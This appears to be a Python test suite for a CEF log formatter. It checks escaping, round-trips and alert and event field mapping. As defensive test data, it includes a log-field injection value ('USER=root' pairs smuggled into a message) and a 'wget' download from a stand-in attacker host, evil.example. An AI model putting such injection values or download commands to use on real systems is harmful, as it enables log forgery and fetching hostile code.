"""CEF escaping and alert/event lines: golden cases and property tests."""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from sinks import cef
from tests.sink_records import make_alert, make_event

_EXT_KEY = re.compile(r"(?:^| )([A-Za-z0-9]+)=")
TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from("\\|=\r\n ]\"'"), st.characters(exclude_categories=["Cs"])
    )
)


def split_header(line: str) -> list[str]:
    """Fields of a CEF line split on unescaped ``|`` (the extension is the last)."""
    fields: list[str] = []
    current, escaped = "", False
    for char in line:
        if escaped:
            current += "\\" + char
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == "|" and len(fields) < 7:
            fields.append(current)
            current = ""
        else:
            current += char
    fields.append(current)
    return fields


def parse_extension(extension: str) -> dict[str, str]:
    """Key/value pairs of an extension, values unescaped."""
    matches = list(_EXT_KEY.finditer(extension))
    pairs: dict[str, str] = {}
    for match, after in zip(matches, [*matches[1:], None], strict=True):
        end = after.start() if after else len(extension)
        pairs[match.group(1)] = cef.unescape(extension[match.end() : end])
    return pairs


def test_ossec_style_fields_cannot_be_forged() -> None:
    """A summary holding ``k=v`` pairs stays one ``msg`` value (ossec-hids#1715)."""
    alert = make_alert(1, note=" TTY=unknown ; PWD=/ ; USER=root")

    line = cef.format_alert(alert)

    pairs = parse_extension(split_header(line)[7])
    assert pairs["msg"] == "Many clones TTY=unknown ; PWD=/ ; USER=root"
    assert "USER" not in pairs and "TTY" not in pairs


def test_url_with_query_survives() -> None:
    """``a=b&c=d`` in a value is escaped, not cut (cowrie#40467)."""
    alert = make_alert(1, note=" CMD: wget http://evil.example/x?a=b&c=d")

    pairs = parse_extension(split_header(cef.format_alert(alert))[7])

    assert pairs["msg"] == "Many clones CMD: wget http://evil.example/x?a=b&c=d"


def test_alert_header_and_standard_keys() -> None:
    """An alert maps to the rule as signature, severity 8 and standard keys."""
    line = cef.format_alert(make_alert(3))

    fields = split_header(line)
    pairs = parse_extension(fields[7])
    assert fields[:7] == [
        "CEF:0",
        "bbaudit",
        "bbaudit",
        "0.1",
        "bb.mass_clone",
        "Mass clone",
        "8",
    ]
    assert pairs["cs1Label"] == "ruleId"
    assert pairs["cs1"] == "bb.mass_clone"
    assert pairs["suser"] == "alice"
    assert pairs["src"] == "10.0.0.7"
    assert pairs["externalId"] == "al-000003"
    assert pairs["rt"] == "1790337603123"


def test_event_line_keys() -> None:
    """An audit event maps its action, outcome and targets."""
    pairs = parse_extension(split_header(cef.format_event(make_event(1)))[7])

    assert pairs["act"] == "repo.permission_granted"
    assert pairs["outcome"] == "success"
    assert pairs["cs1"] == "REPOSITORY:PROJ/repo"


def test_non_ip_source_goes_to_a_custom_string() -> None:
    """``src`` only ever holds an IP address."""
    line = cef.format_line("sig", "name", 3, cef._address("not an ip"))

    assert "src=" not in line
    assert "cs6=not an ip" in line


def test_severity_is_clamped_and_keys_are_alphanumeric() -> None:
    """Severity stays within 0..10; keys lose anything but letters and digits."""
    line = cef.format_line("s", "n", 42, [("bad key=!", "v")])

    assert split_header(line)[6] == "10"
    assert line.endswith("|badkey=v")


@given(TEXT)
def test_value_escape_round_trips(value: str) -> None:
    """Escaped values have no CR/LF, no bare ``=``, and unescape to the input."""
    escaped = cef.escape_value(value)

    assert "\r" not in escaped and "\n" not in escaped
    assert not re.search(r"(?<!\\)(?:\\\\)*=", escaped.replace("\\=", ""))
    assert cef.unescape(escaped) == value


@given(TEXT)
def test_header_escape_round_trips(value: str) -> None:
    """Escaped header fields have no CR/LF and unescape to the input."""
    escaped = cef.escape_header(value)

    assert "\r" not in escaped and "\n" not in escaped
    assert cef.unescape(escaped) == value


@given(st.lists(TEXT, min_size=5, max_size=5), TEXT, TEXT)
def test_line_always_has_seven_header_separators(
    header: list[str], key: str, value: str
) -> None:
    """Whatever the fields hold, a line splits into exactly 8 parts, one line."""
    vendor, product, version, signature, name = header

    line = cef.format_line(
        signature,
        name,
        5,
        [(key, value)],
        vendor=vendor,
        product=product,
        version=version,
    )

    fields = split_header(line)
    assert "\n" not in line and "\r" not in line
    assert [cef.unescape(f) for f in fields[1:6]] == header
    pairs = parse_extension(fields[7])
    assert list(pairs.values()) == [value]
